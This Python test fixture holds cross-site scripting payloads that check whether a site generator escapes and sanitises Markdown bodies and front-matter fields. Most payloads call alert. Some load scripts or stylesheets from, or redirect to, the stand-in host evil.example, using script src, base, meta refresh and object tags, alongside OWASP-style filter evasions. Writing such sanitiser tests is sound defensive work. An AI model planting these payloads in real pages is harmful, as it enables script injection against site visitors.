"""Hostile inputs for the editor-HTML tests (escaping and sanitising).

``BODY_ATTACKS``: (id, Markdown, offset) — the Markdown an editor (or an imported
page, or a paste) puts in a body; ``offset`` is the line, counted from the attack's
first line, where the checker must point. The first group is the textbook examples;
the rest follow the classes of the OWASP XSS filter evasion cheat sheet (case and
entity obfuscation, whitespace and control characters in schemes, malformed tags,
event handlers, style and CSS, embedded documents, SVG/MathML, mutation XSS).

``TEXT_ATTACKS``: values for plain-text fields (Title, Author, Q&A, bulletin).
Every payload tries to call ``alert``, to load or navigate to ``EVIL`` (another
host), or both, so that a browser test sees it if it runs.
"""

EVIL = "evil.example"

BODY_ATTACKS = [
    # --- textbook examples --------------------------------------------------------
    ("js-inline-link", "[Xem](javascript:alert(1))", 0),
    ("js-reference-link", "[Xem][r]\n\n[r]: javascript:alert(2)", 2),
    ("js-autolink", "<javascript:alert(3)>", 0),
    ("js-entity-link", "[Xem](java&#115;cript:alert(4))", 0),
    ("js-all-entities-link",
     "[Xem](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
     "alert(5))", 0),
    ("js-case-link", "[Xem](JaVaScRiPt:alert(6))", 0),
    ("js-colon-entity-link", "[Xem](javascript&colon;alert(7))", 0),
    ("tag-split-over-lines", "<img\n  src=\"x.jpg\"\n  onerror=\"alert(8)\">", 2),
    ("svg-slash-onload", "<svg/onload=alert(9)>", 0),
    ("formaction", "<form><button formaction=\"javascript:alert(10)\">Gửi</button>"
                   "</form>", 0),
    ("style-tag", f"<style>@import 'https://{EVIL}/x.css'; body{{display:none}}"
                  "</style>", 0),
    ("form-to-other-host", f"<form action=\"https://{EVIL}/\"><input name=\"q\">"
                           "<button>Tìm</button></form>", 0),
    ("base-tag", f"<base href=\"https://{EVIL}/\">", 0),
    ("meta-refresh", f"<meta http-equiv=\"refresh\" content=\"0;url=https://{EVIL}/\">",
     0),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(11)&lt;/script&gt;\">"
                      "</iframe>", 0),
    ("data-url-link",
     "[Mở](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)",
     0),
    ("data-url-image",
     "![Ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMTMpPg==)",
     0),
    # --- OWASP filter evasion classes -------------------------------------------
    ("script-src", f"<SCRIPT SRC=https://{EVIL}/xss.js></SCRIPT>", 0),
    ("script-inline", "<script>alert(14)</script>", 0),
    ("img-js-src", "<IMG SRC=\"javascript:alert('XSS');\">", 0),
    ("img-js-case-unquoted", "<IMG SRC=JaVaScRiPt:alert(15)>", 0),
    ("img-fromcharcode",
     "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", 0),
    ("anchor-onmouseover", "<a onmouseover=\"alert(16)\">liên kết</a>", 0),
    ("malformed-img-quotes", "<IMG \"\"\"><SCRIPT>alert(17)</SCRIPT>\">", 0),
    ("img-onmouseover", "<IMG SRC=# onmouseover=\"alert(18)\">", 0),
    ("img-onerror-charcode", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88))\">"
                             "</img>", 0),
    ("onerror-decimal-entities",
     "<img src=x onerror=\"&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
     "&#0000049&#0000057&#0000041\">", 0),
    # A raw tab would become spaces in Markdown (inert); the entity survives it.
    ("js-tab-in-scheme", "<IMG SRC=\"jav&#x09;ascript:alert(20);\">", 0),
    ("js-newline-entity", "<IMG SRC=\"jav&#x0A;ascript:alert(21);\">", 0),
    ("js-leading-spaces-entity", "<IMG SRC=\" &#14;  javascript:alert(22);\">", 0),
    ("script-slash-attribute", f"<SCRIPT/XSS SRC=\"https://{EVIL}/xss.js\"></SCRIPT>",
     0),
    ("body-odd-onload", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(23)>", 0),
    ("double-open-bracket", "<<SCRIPT>alert(24);//\\<</SCRIPT>", 0),
    ("protocol-relative-script", f"<SCRIPT SRC=//{EVIL}/.j></SCRIPT>", 0),
    ("iframe-other-host", f"<iframe src=\"https://{EVIL}/\" width=1></iframe>", 0),
    ("input-image-js", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(25);\">", 0),
    ("body-background", "<BODY BACKGROUND=\"javascript:alert(26)\">", 0),
    ("img-dynsrc", "<IMG DYNSRC=\"javascript:alert(27)\">", 0),
    ("svg-script", "<svg><script>alert(28)</script></svg>", 0),
    ("link-stylesheet",
     f"<LINK REL=\"stylesheet\" HREF=\"https://{EVIL}/xss.css\">", 0),
    ("div-style-url", "<DIV STYLE=\"background-image: url(javascript:alert(29))\">x"
                      "</DIV>", 0),
    ("table-background", "<TABLE BACKGROUND=\"javascript:alert(30)\"><tr><td>x</td>"
                         "</tr></TABLE>", 0),
    ("object-data", f"<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://{EVIL}/s.html\">"
                    "</OBJECT>", 0),
    ("embed-svg", "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzEp"
                  "Pg==\" type=\"image/svg+xml\">", 0),
    ("mxss-math-style", "<math><mtext><table><mglyph><style><img src=x "
                        "onerror=alert(32)>", 0),
    ("mxss-noscript",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(33)>\">",
     0),
    ("details-ontoggle", "<details open ontoggle=alert(34)><summary>x</summary>"
                         "</details>", 0),
    ("video-source-onerror", "<video><source onerror=\"alert(35)\"></video>", 0),
    ("attr-list-onclick", "[Bấm](#muc){: onclick=\"alert(36)\" }", 0),
    ("attr-list-onerror", "![Ảnh](anh.jpg){: onerror=\"alert(37)\" }", 0),
    ("object-js-data", "<object data=\"javascript:alert(38)\"></object>", 0),
    ("marquee-onstart", "<marquee onstart=alert(39)>chữ chạy</marquee>", 0),
    ("vbscript-link", "[Xem](vbscript:msgbox(40))", 0),
    ("xss-behavior-style", "<xss style=\"behavior: url(x.htc);\">x</xss>", 0),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:"
                         "alert(41) /><text x=20 y=20>Bấm</text></a></svg>", 0),
    ("math-xlink-href", "<math><mi xlink:href=\"javascript:alert(42)\">x</mi></math>",
     0),
    ("external-image", f"![Ảnh](https://{EVIL}/theo-doi.gif)", 0),
    ("srcset-other-host", f"<img src=\"a.jpg\" srcset=\"https://{EVIL}/a.jpg 2x\" "
                          "alt=\"a\">", 0),
    ("template-content", "<template><img src=x onerror=alert(43)></template>", 0),
    ("pagefind-steering", "<p data-pagefind-meta=\"title:Giả mạo\">x</p>", 0),
]

# Plain-text front-matter values: escaped on every page; the checker refuses a tag.
TEXT_ATTACKS = [
    "<script>alert(101)</script>",
    "\"><img src=x onerror=alert(102)>",
    "</title><script>alert(103)</script>",
    "</script><script>alert(104)</script><!--",
    "<svg/onload=alert(105)>",
]
# Entity-encoded markup: plain text that Jinja's striptags used to turn back into a
# live tag; it must show as the text "<script>…", never run.
ENCODED_ATTACK = "&lt;script&gt;alert(106)&lt;/script&gt;"


def hostile_files():
    """A content folder where every field and body of every type carries attacks."""
    from test_bulletins import cover_bytes, pdf_bytes

    body = "Đoạn mở đầu.\n\n" + "\n\n".join(a for _, a, _ in BODY_ATTACKS) + "\n"
    title, author, summary = TEXT_ATTACKS[0], TEXT_ATTACKS[1], TEXT_ATTACKS[2]
    return {
        "news/2020/tan-cong.md": (
            f"Title: {title}\nSlug: tan-cong\nDate: 01/02/2020 08:00\n"
            f"Category: Thanh tra\nAuthor: {author}\nTags: {TEXT_ATTACKS[4]}\n"
            f"Summary: {summary} <img src=x onerror=alert(107)>\n\n{body}"),
        "news/2020/ma-hoa.md": (
            f"Title: {ENCODED_ATTACK}\nSlug: ma-hoa\nDate: 02/02/2020 08:00\n"
            f"Category: Thanh tra\nAuthor: {TEXT_ATTACKS[3]}\n"
            f"Summary: {ENCODED_ATTACK}\n\nNội dung {ENCODED_ATTACK}.\n"),
        "pages/tan-cong.md": (
            f"Title: {TEXT_ATTACKS[3]}\nSlug: trang-tan-cong\n"
            f"Summary: {TEXT_ATTACKS[4]}\n\n{body}"),
        "bulletins/2020/so-1.md": (
            f"Title: {TEXT_ATTACKS[1]}\nNumber: 1\nYear: 2020\nDate: 03/02/2020\n"
            f"Summary: {TEXT_ATTACKS[2]} <svg/onload=alert(108)>\n"
            "Cover: so-1-bia.jpg\nPDF: so-1.pdf\n"
            f"Contents: {TEXT_ATTACKS[0]} | trang 2\n"
            f"    {ENCODED_ATTACK} | trang 3\n\n{body}"),
        "bulletins/2020/so-1-bia.jpg": cover_bytes(),
        "bulletins/2020/so-1.pdf": pdf_bytes(),
        "qa/tan-cong.md": (
            f"Title: {TEXT_ATTACKS[0]}\nSlug: hoi-tan-cong\n"
            f"Question: {TEXT_ATTACKS[3]}\n"
            f"Asker: {TEXT_ATTACKS[1]}\nLocality: {TEXT_ATTACKS[2]}\n"
            "Asked: 01/02/2020\nField: Sở hữu trí tuệ\n"
            f"Answerer: {TEXT_ATTACKS[4]}\nExpert: {ENCODED_ATTACK}\n"
            f"Date: 05/02/2020\n\n{body}"),
        # Nhiệm vụ KH&CN and a call (plugins/science_tasks).
        "tasks/2020/tan-cong.md": (
            f"Title: {TEXT_ATTACKS[0]}\nSlug: nhiem-vu-tan-cong\nCode: ĐT.01-2020\n"
            "Level: Cấp tỉnh\nField: Khoa học nông nghiệp\n"
            f"Host: {TEXT_ATTACKS[3]}\nInvestigator: {TEXT_ATTACKS[1]}\n"
            "Starts: 01/01/2020\nEnds: 31/12/2020\nBudget: 100.000.000\n"
            "Stage: Đã nghiệm thu\nAccepted: 15/01/2021\nGrade: Khá\n"
            f"Result: {TEXT_ATTACKS[4]} {ENCODED_ATTACK}\n"
            "Product: tan-cong.pdf | \"><img src=x onerror=alert(109)>\n"
            f"Date: 06/02/2020\n\n{body}"),
        "tasks/2020/tan-cong.pdf": pdf_bytes(),
        "task-calls/tan-cong.md": (
            f"Title: {TEXT_ATTACKS[2]}\nSlug: thong-bao-tan-cong\n"
            f"Number: {ENCODED_ATTACK}\nKind: Tuyển chọn\nOpens: 01/01/2020\n"
            "Closes: 31/01/2020\nTask: ĐT.01-2020\n\n"
            f"{body}"),
    }
